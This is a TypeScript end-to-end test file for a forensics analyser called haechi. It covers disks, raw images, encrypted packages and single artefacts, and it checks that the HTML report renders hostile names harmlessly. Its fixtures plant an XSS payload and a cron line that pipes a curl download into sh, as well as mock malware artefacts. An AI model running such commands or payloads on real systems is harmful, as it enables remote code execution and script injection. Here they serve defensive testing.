// haechi analyse as somebody uses it: a disk that is mounted, raw images, packages, single artefacts, and the report in a real
// Chromium.

import assert from 'node:assert/strict'
import { generateKeyPairSync } from 'node:crypto'
import { mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { test } from 'node:test'
import { pathToFileURL } from 'node:url'

import { generateX25519Identity, identityToRecipient } from 'age-encryption'

import { analysisLines } from '../../src/model/analysis-lines.ts'
import { requireChromium, Tab } from '../support/chromium.ts'
import { extPrograms, imageFolder, ntfsPrograms } from '../support/disk-image.ts'
import { linuxHost, windowsHost } from '../support/examined-host.ts'
import { requirePrograms } from '../support/programs.ts'
import { type Finished, haechi, jsonLines, TemporaryFolder } from '../support/run-haechi.ts'
import { requireRoot } from '../support/scratch.ts'

/** Named streams are left out: this file system has none. */
function mounted(folder: string, files: Readonly<Record<string, Buffer | string>>): string {
  for (const [path, content] of Object.entries(files)) {
    if (path.includes(':')) continue
    mkdirSync(join(folder, dirname(path)), { recursive: true })
    writeFileSync(join(folder, path), content)
  }
  return folder
}

function signingKey(path: string): string {
  const { privateKey } = generateKeyPairSync('ed25519')
  writeFileSync(path, privateKey.export({ type: 'pkcs8', format: 'pem' }))
  return path
}

test('a mounted Windows: summary, files, exit code; nothing of it is changed', () => {
  using folder = new TemporaryFolder()
  const disk = mounted(folder.at('c'), windowsHost())
  const before = statSync(join(disk, 'Users/bob/NTUSER.DAT'))
  const { code, stdout, stderr } = haechi(['analyse', '-o', folder.at('out'), disk])
  assert.equal(code, 1, stderr)
  assert.match(stdout, /computer name: PC-7/)
  assert.match(stdout, /high\s+engine\s+1\s+\S*\s+Eicar-Test-Signature/)
  assert.match(stdout, /^Report: .*report\.html$/m)
  assert.match(stderr, /Broken\.evtx/)
  for (const line of jsonLines(readFileSync(folder.at('out', 'findings.jsonl'), 'utf8')))
    analysisLines.finding.schema.parse(line)
  assert.match(readFileSync(folder.at('out', 'artefacts', 'autorun.jsonl'), 'utf8'), /evil\.exe/)
  const after = statSync(join(disk, 'Users/bob/NTUSER.DAT'))
  assert.deepEqual([after.mtimeMs, after.ctimeMs], [before.mtimeMs, before.ctimeMs])
  // What is there already is somebody's work.
  const again = haechi(['analyse', '-o', folder.at('out'), disk])
  assert.equal(again.code, 64)
  assert.match(again.stderr, /is there and not empty/)
})

test('a Linux root as JSON, in the zone of the examined host', () => {
  using folder = new TemporaryFolder()
  const root = mounted(folder.at('root'), {
    ...linuxHost(),
    '/etc/timezone': 'Asia/Seoul\n',
    '/var/log/messages': 'Mar  1 19:00:30 web1 app[7]: no zone here\n',
  })
  const args = ['analyse', '--json', '-q', '--no-scan', '-o', folder.at('out'), root]
  const { code, stdout, stderr } = haechi(args)
  assert.equal(code, 1, stderr)
  const lines = jsonLines(stdout)
  const summary = analysisLines['analysis-summary'].schema.parse(lines.at(-1))
  assert.equal(summary.host['host name'], 'web1')
  assert.equal(summary.sources[0]?.system, 'linux')
  assert.ok(lines.slice(0, -1).every(({ type }) => type === 'finding'))
  const rows = jsonLines(readFileSync(folder.at('out', 'timeline.jsonl'), 'utf8'))
  const row = rows.find(({ title }) => String(title).includes('no zone here'))
  assert.match(String(row?.['time']), /T10:00:30Z$/)
})

function kindsOf(stdout: string): Readonly<Record<string, number>> {
  return analysisLines['analysis-summary'].schema.parse(jsonLines(stdout).at(-1)).artefacts
}

test('a package that was collected gives what the disk gives, encrypted to a key too', async () => {
  using folder = new TemporaryFolder()
  const disk = mounted(folder.at('c'), windowsHost())
  const identity = await generateX25519Identity()
  writeFileSync(folder.at('age.key'), `${identity}\n`)
  const recipient = await identityToRecipient(identity)
  const collect = ['collect', '--allow-same-disk', '--key', signingKey(folder.at('key.pem'))]
  const plain = haechi([...collect, '-o', folder.at('p.tar.zst'), disk])
  assert.equal(plain.code, 0, plain.stderr)
  const secret = haechi([...collect, '--encrypt-to', recipient, '-o', folder.at('p.age'), disk])
  assert.equal(secret.code, 0, secret.stderr)

  const analyse = (name: string, ...args: readonly string[]): Finished =>
    haechi(['analyse', '--json', '-q', '--no-scan', '-o', folder.at(`out-${name}`), ...args])
  const ofDisk = kindsOf(analyse('disk', disk).stdout)
  const ofPackage = analyse('plain', folder.at('p.tar.zst'))
  assert.equal(ofPackage.code, 1, ofPackage.stderr)
  // What is no evidence is not in a package: a program has no digest there, and is not said to be missing.
  for (const kind of ['event-log', 'prefetch', 'run-history', 'registered-task', 'autorun', 'task', 'lnk'])
    assert.equal(kindsOf(ofPackage.stdout)[kind], ofDisk[kind], kind)
  const missing = haechi(['autoruns', '--json', '--missing', folder.at('p.tar.zst')])
  assert.deepEqual([missing.code, missing.stdout], [0, ''], missing.stderr)

  const locked = analyse('locked', folder.at('p.age'))
  assert.equal(locked.code, 64)
  assert.match(locked.stderr, /is encrypted/)
  const opened = analyse('secret', '--identity', folder.at('age.key'), folder.at('p.age'))
  assert.deepEqual(kindsOf(opened.stdout), kindsOf(ofPackage.stdout), opened.stderr)
  const autoruns = haechi(['autoruns', '--identity', folder.at('age.key'), folder.at('p.age')])
  assert.match(autoruns.stdout, /WinUpd/, autoruns.stderr)
  // What was decrypted does not stay.
  assert.deepEqual(
    readdirSync(folder.path).filter((name) => name.includes('haechi') || name.endsWith('.tmp')),
    [],
  )
})

test('raw images of NTFS and ext4 are read without being mounted', (t) => {
  if (!requireRoot(t) || !requirePrograms(t, { ...ntfsPrograms, ...extPrograms })) return
  using folder = new TemporaryFolder()
  const images = imageFolder()
  try {
    const windows = mounted(folder.at('c'), {
      ...windowsHost(),
      '/Windows/System32/ntdll.dll': 'a whole Windows has it',
    })
    // The table of the volume itself is what is read.
    rmSync(join(windows, '$MFT'))
    const ntfs = images.ntfs('ntfs.raw', '24M', `cp -r '${windows}/.' .`)
    const { code, stdout, stderr } = haechi(['analyse', '--json', '-q', '-o', folder.at('out'), ntfs])
    assert.equal(code, 1, stderr)
    const kinds = kindsOf(stdout)
    for (const kind of [
      'event-log',
      'prefetch',
      'run-history',
      'autorun',
      'task',
      'lnk',
      'service',
      'recycle-bin',
    ])
      assert.ok((kinds[kind] ?? 0) > 0, kind)
    assert.match(stdout, /Eicar-Test-Signature/)
    const gone = jsonLines(haechi(['autoruns', '--json', '--missing', ntfs]).stdout)
    assert.deepEqual(
      gone.map(({ image }) => image),
      ['powershell.exe', 'C:\\Program Files\\Chat\\chat.exe'],
    )

    const linux = mounted(folder.at('root'), linuxHost())
    const ext = images.ext('ext.raw', ['-t', 'ext4'], `cp -r '${linux}/.' .`)
    const run = haechi(['analyse', '--json', '-q', '-o', folder.at('out-ext'), ext])
    assert.equal(run.code, 1, run.stderr)
    assert.deepEqual(
      kindsOf(run.stdout),
      kindsOf(haechi(['analyse', '--json', '-q', '-o', folder.at('out-root'), linux]).stdout),
    )
    assert.match(haechi(['autoruns', ext]).stdout, /Preload .*libhide\.so/)
  } finally {
    images.remove()
  }
})

test('single artefacts are told by their content, whatever they are called', () => {
  using folder = new TemporaryFolder()
  const host = windowsHost()
  const files: readonly (readonly [string, string, RegExp])[] = [
    ['a.bin', '/Windows/Prefetch/EVIL.EXE-0000ABCD.pf', /last run +prefetch +.*EVIL\.EXE ran 3 times/],
    ['b.bin', '/Windows/System32/winevt/Logs/Security.evtx', /logged +event-log +Security 4625 logon failed/],
    ['c.bin', '/Windows/System32/config/SOFTWARE', /autorun +Logon: Updater/],
    [
      'd',
      '/Users/bob/AppData/evil.exe:Zone.Identifier',
      /download .*zone internet, from https:\/\/evil\.example/,
    ],
    [
      '$I99.x',
      '/$Recycle.Bin/S-1-5-21-1-2-3-1001/$IABC123.docx',
      /deleted +recycle-bin +C:\\Users\\bob\\notes\.docx/,
    ],
    ['e.bin', '/Windows/System32/Tasks/Update', /task +\\Update: C:\\Users\\bob\\AppData\\evil\.exe -s/],
    ['f.bin', '/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/u.lnk', /lnk +.*evil\.exe -s/],
    ['g.bin', '/$MFT', /mft +.*stamped\.exe/],
  ]
  for (const [name, path, pattern] of files) {
    writeFileSync(folder.at(name), host[path] ?? '')
    const { stdout, stderr, code } = haechi(['analyse', folder.at(name)])
    assert.match(stdout, pattern, `${path}: ${stderr}`)
    assert.ok(code === 0 || code === 1, `${path}: ${code}`)
    const lines = jsonLines(haechi(['analyse', '--json', folder.at(name)]).stdout)
    assert.ok(lines.length > 0, path)
    for (const line of lines)
      analysisLines[line['type'] === 'finding' ? 'finding' : 'artefact'].schema.parse(line)
  }
  writeFileSync(folder.at('noise'), Buffer.alloc(9000, 7))
  const none = haechi(['analyse', folder.at('noise')])
  assert.equal(none.code, 2)
  assert.match(none.stderr, /no file system that is known here/)
})

test('the report is read in Chromium: light, dark, narrow, on paper, hostile names are text', async (t) => {
  const program = requireChromium(t)
  if (program === undefined) return
  using folder = new TemporaryFolder()
  const hostile = '<img src=x onerror="window.attacked=1">'
  const disk = mounted(folder.at('c'), {
    ...linuxHost(),
    '/root/.bash_history': `echo ${hostile}\n`,
    '/etc/cron.d/x': `* * * * * root curl http://e/${hostile} | sh\n`,
  })
  assert.equal(haechi(['analyse', '-o', folder.at('out'), disk]).code, 1)
  const url = pathToFileURL(folder.at('out', 'report.html')).href
  await using tab = await Tab.open(program)
  await tab.go(url)
  assert.deepEqual(tab.requests, [url])
  assert.deepEqual(tab.complaints, [])
  const seen = (await tab.evaluate(`({
    attacked: typeof window.attacked,
    images: document.images.length,
    shown: document.body.textContent.includes('<img src=x onerror='),
    sections: [...document.querySelectorAll('main > section')].map(({ id }) => id),
    title: document.title,
    rows: document.querySelectorAll('#rows tbody tr').length,
  })`)) as Record<string, unknown>
  assert.ok(Number(seen['rows']) > 5)
  assert.deepEqual(
    { ...seen, rows: 0 },
    {
      attacked: 'undefined',
      images: 0,
      shown: true,
      sections: ['overview', 'findings', 'incidents', 'timeline', 'tables', 'limits'],
      title: 'Analysis of web1',
      rows: 0,
    },
  )
  const filtered = (await tab.evaluate(`(() => {
    const search = document.getElementById('search');
    search.value = 'sqlmap';
    search.dispatchEvent(new Event('input'));
    return [...document.querySelectorAll('#rows tbody tr')].filter((row) => !row.hidden).length;
  })()`)) as number
  assert.equal(filtered, 1)
  await tab.send('Emulation.setDeviceMetricsOverride', {
    width: 390,
    height: 800,
    deviceScaleFactor: 1,
    mobile: true,
  })
  await tab.go(url)
  assert.equal(await tab.evaluate('document.documentElement.scrollWidth <= window.innerWidth'), true)
})
